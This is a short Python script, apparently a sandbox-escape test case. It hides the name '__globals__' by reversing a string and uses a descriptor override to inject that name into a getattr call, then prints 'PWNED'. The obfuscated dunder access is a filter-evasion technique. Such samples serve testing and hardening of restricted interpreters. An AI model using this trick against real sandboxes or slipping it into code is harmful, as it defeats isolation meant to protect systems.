# class decorator with own class that wraps
def f():
    pass


H = "".join(reversed("__slabolg__"))


class Row:
    x = 1

    def note(self, names):
        print(len(names))

    def show(self, of):
        names = ["x"]
        self.note(names)
        return [getattr(of, n, None) for n in names]


class Hook:
    def __init__(self, method):
        self.method = method

    def __get__(self, obj, owner=None):
        return lambda names: names.append(H)


class Low(Row):
    @Hook
    def note(self, names):
        print(len(names))


print("PWNED", len(Low().show(f)[1]))
